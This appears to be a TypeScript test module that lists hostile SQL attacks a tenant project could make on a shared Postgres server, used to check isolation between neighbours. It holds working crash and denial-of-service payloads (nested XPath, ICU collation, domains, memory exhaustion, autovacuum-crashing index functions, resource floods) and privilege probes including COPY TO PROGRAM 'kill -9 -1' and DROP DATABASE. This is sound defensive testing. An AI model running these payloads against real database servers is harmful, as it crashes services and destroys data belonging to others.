/**
 * What a hostile project does to its Postgres, through the HTTP API or through sessions of the Postgres port. Most of
 * these attacks were found by a review that crashed a shared server with them. The responses do not matter here, only how
 * the neighbor fares meanwhile.
 */

/** For `backend-memory-mib`: what fills memory to the brim is made for this. */
export const BACKEND_MIB = 300;

/** Longest time of one statement. */
export const STATEMENT_MS = 1_500;

export interface Attacker {
  /** Sends one request of free SQL. Never fails. */
  readonly sql: (
    text: string,
    options?: { read_only?: boolean; timeout_ms?: number; max_rows?: number },
  ) => Promise<unknown>;
  readonly call: (method: string, path: string, body?: unknown) => Promise<unknown>;
}

export interface Attack {
  readonly name: string;
  readonly run: (attacker: Attacker) => Promise<unknown>;
  /** Takes away what would be in the way of the next one. */
  readonly after?: string;
}

/** Statements one after the other. */
const inTurn =
  (...texts: string[]): Attack['run'] =>
  async ({ sql }) => {
    for (const text of texts) await sql(text);
  };

/** The same requests at once. */
const atOnce =
  (times: number, text: string, options: Parameters<Attacker['sql']>[1] = {}): Attack['run'] =>
  ({ sql }) =>
    Promise.all(Array.from({ length: times }, () => sql(text, { timeout_ms: STATEMENT_MS, ...options })));

const block = (body: string): string => `DO $x$ ${body} $x$`;

/** Until the statement's time is up, in steps of its own. */
const forEver = (step: string): string => block(`BEGIN LOOP ${step} END LOOP; END`);

/** Catches whatever it can, so that it goes on. */
const tryFor = (seconds: number, declare: string, step: string): string =>
  block(`DECLARE t0 timestamptz := clock_timestamp(); ${declare} BEGIN
    WHILE clock_timestamp() < t0 + interval '${seconds} s' LOOP
      BEGIN ${step} EXCEPTION WHEN OTHERS THEN NULL; END;
    END LOOP; END`);

const PARENTHESES = `repeat('(', 200000) || '1' || repeat(')', 200000)`;

/** Takes all memory that the process may have, in pieces that get smaller, then frees a little. */
const TO_THE_BRIM = (then: string): string =>
  block(`DECLARE n int := 33554432; a text[] := '{}'; r text[] := '{}'; u text := repeat('x', 65536);
      t text := repeat('[', 200000); BEGIN
    FOR i IN 1..200 LOOP r := r || repeat('z', 60000); END LOOP;
    WHILE n >= 4000 LOOP
      BEGIN IF n >= 65536 THEN a := a || repeat(u, n / 65536); ELSE a := a || repeat('x', n); END IF;
      EXCEPTION WHEN out_of_memory THEN n := n / 2; END;
    END LOOP;
    r := NULL; ${then} END`);

const nestedDomains: Attack['run'] = async ({ sql }) => {
  const [step, steps] = [4_000, 12];
  await sql('CREATE DOMAIN d0 AS int');
  for (let i = 0; i < steps; i++) {
    const [from, to] = [i * step + 1, (i + 1) * step];
    await sql(
      block(`BEGIN FOR i IN ${from}..${to} LOOP
        EXECUTE format('CREATE DOMAIN d%s AS d%s[]', i, i - 1); END LOOP; END`),
    );
  }
  const last = `NULL::d${step * steps}`;
  await sql(`SELECT DISTINCT x FROM (VALUES (${last}), (${last})) v(x)`, { timeout_ms: 20_000 });
};

/** Ways to end a process, each of which ended the whole server when projects shared one. */
const CRASHES: readonly Attack[] = [
  { name: 'nested XPath', run: inTurn(`SELECT xpath(${PARENTHESES}, '<a/>')`) },
  { name: 'XPath of many predicates', run: inTurn(`SELECT xpath('/a' || repeat('[1]', 100000), '<a/>')`) },
  {
    name: 'XMLTABLE with nested XPath, as a reader',
    run: ({ sql }) =>
      sql(`SELECT * FROM xmltable((${PARENTHESES}) PASSING ('<a/>'::xml) COLUMNS x text PATH '.')`, {
        read_only: true,
      }),
  },
  {
    name: 'nested rules of an ICU collation',
    run: inTurn(
      block(`BEGIN EXECUTE format('CREATE COLLATION deep (provider = icu, locale = %L, rules = %L)', 'und',
        '&a<b [suppressContractions ' || repeat('[', 3000000) || repeat(']', 3000000) || ']'); END`),
    ),
  },
  { name: 'nested domains', run: nestedDomains },
  { name: 'a stack that grows when memory is used up', run: inTurn(TO_THE_BRIM('PERFORM t::json;')) },
  {
    name: 'no memory left to undo a transaction with',
    run: inTurn(
      `SET temp_buffers = 2700000; CREATE TEMP TABLE tt (a int) ON COMMIT DROP; INSERT INTO tt VALUES (1);
       DO $$ BEGIN FOR i IN 1..4000 LOOP EXECUTE format('CREATE TABLE z_%s (a int)', i); END LOOP; END $$;
       DO $$ DECLARE u text := repeat('x', 65536); n int := 8388608; c int := 0; BEGIN
         WHILE n >= 4096 LOOP BEGIN c := c + 1;
           EXECUTE 'PREPARE f' || c || ' AS SELECT ' ||
             quote_literal(CASE WHEN n >= 65536 THEN repeat(u, n / 65536) ELSE repeat('x', n) END);
         EXCEPTION WHEN out_of_memory THEN n := n / 2; END; END LOOP; END $$;
       SELECT 1/0`,
    ),
  },
];

/** Autovacuum comes in its own time, for as long as the attacks after these last. */
const AUTOVACUUM: readonly Attack[] = [
  {
    name: 'an index function that crashes autovacuum',
    run: inTurn(
      `CREATE FUNCTION crash(x int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN
         IF session_user <> current_user THEN
           PERFORM pg_catalog.xpath(pg_catalog.repeat('(', 200000) || '1' || pg_catalog.repeat(')', 200000), '<a/>');
         END IF; RETURN x; END $$`,
      'CREATE TABLE crashing (x int); CREATE INDEX ON crashing (crash(x)); INSERT INTO crashing SELECT generate_series(1, 2000)',
    ),
  },
  {
    name: "BRIN's autosummarize with an index function that ends the transaction",
    run: inTurn(
      `CREATE FUNCTION ends(x int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN
         IF session_user <> current_user THEN EXECUTE 'ANALYZE data.summed'; END IF; RETURN x; END $$`,
      `CREATE TABLE summed (x int, y text);
       CREATE INDEX ON summed USING brin (ends(x)) WITH (pages_per_range = 1, autosummarize = on)`,
      `INSERT INTO summed SELECT g, repeat('y', 1000) FROM generate_series(1, 2000) g`,
    ),
  },
  {
    name: 'tables that keep all workers of autovacuum',
    run: inTurn(
      `CREATE FUNCTION slow(x int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN
         IF session_user <> current_user THEN PERFORM pg_catalog.pg_sleep(100); END IF; RETURN x; END $$`,
      block(`BEGIN FOR i IN 1..8 LOOP EXECUTE format('CREATE TABLE slow_%s (x int);
        CREATE INDEX ON slow_%1$s (slow(x)); INSERT INTO slow_%1$s SELECT generate_series(1, 2000)', i); END LOOP; END`),
    ),
  },
];

const BIG = Array.from({ length: 250 }, () => ({ n: 'x'.repeat(36_000) }));

const FLOODS: readonly Attack[] = [
  { name: 'infinite queries', run: atOnce(16, 'SELECT count(*) FROM generate_series(1, 1000000000000)') },
  {
    name: 'a crowd of requests',
    run: ({ sql }) => Promise.all(Array.from({ length: 300 }, () => sql('SELECT pg_sleep(0.2)'))),
  },
  {
    name: 'temporary files',
    run: atOnce(
      6,
      `SET work_mem = '64kB'; SELECT count(*) FROM (SELECT g, repeat('x', 900) FROM generate_series(1, 1000000000) g ORDER BY 2, 1 DESC) s`,
    ),
  },
  {
    name: 'write-ahead log',
    run: async (attacker) => {
      await attacker.sql(
        'CREATE UNLOGGED TABLE source AS SELECT repeat(md5(random()::text), 30) AS x FROM generate_series(1, 20000); CREATE TABLE flood (x text)',
      );
      await atOnce(4, forEver('INSERT INTO flood SELECT x FROM source;'))(attacker);
    },
    after: 'DROP TABLE source, flood',
  },
  {
    name: 'huge responses',
    run: atOnce(12, `SELECT repeat('x', 1000000) AS x FROM generate_series(1, 100)`, { max_rows: 100_000 }),
  },
  {
    name: 'huge bodies',
    run: async ({ call }) => {
      await call('POST', '/api/cdp/schema/table', { table_name: 'big', columns: [{ name: 'n', type: 'TEXT' }] });
      await Promise.all(Array.from({ length: 12 }, () => call('POST', '/api/cdp/data/big', BIG)));
    },
    after: 'DROP TABLE big',
  },
  { name: 'memory', run: atOnce(8, `SET work_mem = '100GB'; ${tryFor(1, 'x text;', `x := repeat('x', 250000000);`)}`) },
  {
    name: 'idle sessions with much memory',
    run: atOnce(
      6,
      'SET temp_buffers = 2500000; CREATE TEMP TABLE tt (a int); INSERT INTO tt VALUES (1); SELECT pg_sleep(0.5)',
    ),
  },
  {
    name: 'a log of dumps of memory',
    run: atOnce(
      3,
      tryFor(
        1,
        `u text := repeat('SECRET ', 9000); q text;`,
        `EXECUTE format('PREPARE %I AS SELECT %L', clock_timestamp(), repeat('my-secret-', 90)); q := repeat(u, 16000);`,
      ),
    ),
  },
  {
    name: 'messages to the log',
    run: inTurn(
      `SET log_min_messages = debug5; SET client_min_messages = debug5; ${block(`BEGIN FOR i IN 1..20000 LOOP RAISE LOG 'my-secret-%', i; END LOOP; END`)}`,
    ),
  },
];

const SHARED: readonly Attack[] = [
  {
    name: 'churn of tables',
    run: atOnce(4, forEver('CREATE TABLE churned_x (a serial PRIMARY KEY, b text); DROP TABLE churned_x;')),
  },
  {
    name: 'churn of committed tables',
    run: ({ sql }) =>
      Promise.all(
        [1, 2, 3, 4].map(async (i) => {
          for (const end = Date.now() + 1_000; Date.now() < end;) {
            await sql(`CREATE TABLE churned_${i} (a serial PRIMARY KEY, b text); DROP TABLE churned_${i}`);
          }
        }),
      ),
  },
  {
    name: 'advisory locks',
    run: atOnce(
      6,
      `${block(`BEGIN PERFORM pg_advisory_lock(g) FROM generate_series(1, 10000000) g; EXCEPTION WHEN OTHERS THEN NULL; END`)}; SELECT pg_sleep(1)`,
    ),
  },
  {
    name: 'advisory locks of other numbers',
    run: atOnce(
      4,
      'SELECT count(pg_try_advisory_lock(g)) FROM generate_series(4014252800, 4014253000) g; SELECT pg_sleep(1)',
    ),
  },
  {
    name: 'notifications that nobody fetches',
    run: (attacker) =>
      Promise.all([
        attacker.sql('LISTEN n; BEGIN; SELECT pg_sleep(2)', { timeout_ms: 2_000 }),
        atOnce(
          3,
          tryFor(
            1,
            '',
            `PERFORM pg_notify('n', repeat('x', 7990) || clock_timestamp()) FROM generate_series(1, 2000);`,
          ),
        )(attacker),
      ]),
  },
  {
    name: 'a storm of subtransactions',
    run: async (attacker) => {
      await attacker.sql('CREATE TABLE stormy (x int); INSERT INTO stormy VALUES (1)');
      await atOnce(6, tryFor(1, '', 'UPDATE stormy SET x = x + 1; PERFORM count(*) FROM stormy;'))(attacker);
    },
    after: 'DROP TABLE stormy',
  },
  {
    name: 'predicate locks',
    run: atOnce(
      6,
      `BEGIN ISOLATION LEVEL SERIALIZABLE; SELECT count(*) FROM pg_class, pg_attribute, pg_type; SELECT pg_sleep(1); COMMIT`,
    ),
  },
  {
    name: 'large objects',
    run: atOnce(4, tryFor(1, '', `PERFORM lo_from_bytea(0, repeat('x', 100000)::bytea);`)),
    after: 'SELECT count(lo_unlink(oid)) FROM pg_largeobject_metadata',
  },
  { name: 'transaction numbers', run: atOnce(6, tryFor(1, '', `PERFORM pg_current_xact_id();`)) },
  {
    name: 'searches that cannot be cancelled',
    run: atOnce(4, `SELECT strpos(repeat('a', 40000000), repeat('a', 20000) || 'b')`, { timeout_ms: 1_000 }),
  },
  {
    name: 'XPath that cannot be cancelled',
    run: atOnce(
      3,
      `SELECT xpath('count(//*[count(//*[count(//*)>0])>0])', ('<r>' || repeat('<a/>', 900) || '</r>')::xml)`,
      {
        timeout_ms: 1_000,
      },
    ),
  },
];

const RIGHTS: readonly Attack[] = [
  {
    name: 'functions and commands for superusers',
    run: inTurn(
      'SELECT pg_reload_conf()',
      'SELECT pg_rotate_logfile()',
      'SELECT pg_switch_wal()',
      "SELECT pg_backup_start('x')",
      'SELECT pg_terminate_backend(pid) FROM pg_stat_activity',
      'SELECT pg_cancel_backend(pid) FROM pg_stat_activity',
      'SELECT pg_terminate_backend(g) FROM generate_series(1, 100000) g',
      'SELECT pg_log_backend_memory_contexts(pid) FROM pg_stat_activity',
      'SELECT pg_stat_reset()',
      'CHECKPOINT',
      'ALTER SYSTEM SET max_connections = 1',
      `COPY (SELECT 1) TO PROGRAM 'kill -9 -1'`,
      `COPY (SELECT 1) TO '/tmp/cdp-attack'`,
      `SELECT pg_read_file('postmaster.pid')`,
      `LOAD 'auto_explain'`,
      `SELECT lo_export(1, '/tmp/cdp-attack')`,
      'CREATE EXTENSION dblink',
      'DROP OWNED BY CURRENT_USER CASCADE',
    ),
  },
  {
    name: 'what a project can do to its own roles and database',
    run: inTurn(
      `ALTER ROLE CURRENT_USER PASSWORD 'another'`,
      'ALTER ROLE CURRENT_USER CONNECTION LIMIT 0',
      'ALTER ROLE CURRENT_USER NOLOGIN',
      `ALTER ROLE CURRENT_USER SET search_path = 'nowhere'`,
      `ALTER ROLE CURRENT_USER SET local_preload_libraries = 'nothing'`,
      `ALTER ROLE CURRENT_USER SET transaction_timeout = '1ms'`,
      'REVOKE ALL ON SCHEMA data FROM CURRENT_USER',
      `DO $$ BEGIN EXECUTE format('REVOKE CONNECT ON DATABASE %I FROM PUBLIC, CURRENT_USER', current_database()); END $$`,
      `DO $$ BEGIN EXECUTE format('ALTER DATABASE %I ALLOW_CONNECTIONS false', current_database()); END $$`,
      `DO $$ BEGIN EXECUTE format('DROP DATABASE %I', current_database()); END $$`,
    ),
  },
  {
    name: 'imported statistics',
    run: async ({ sql, call }) => {
      await sql('CREATE TABLE counted (x int); INSERT INTO counted VALUES (1)');
      await sql(
        `SELECT pg_restore_relation_stats('schemaname', 'data', 'relname', 'counted', 'reltuples', 1e30::real)`,
      );
      await call('GET', '/api/cdp/schema');
    },
  },
];

/** Quiet ones first: until the crashes come, autovacuum has time for its own. */
export const ATTACKS: readonly Attack[] = [...AUTOVACUUM, ...SHARED, ...FLOODS, ...RIGHTS, ...CRASHES];
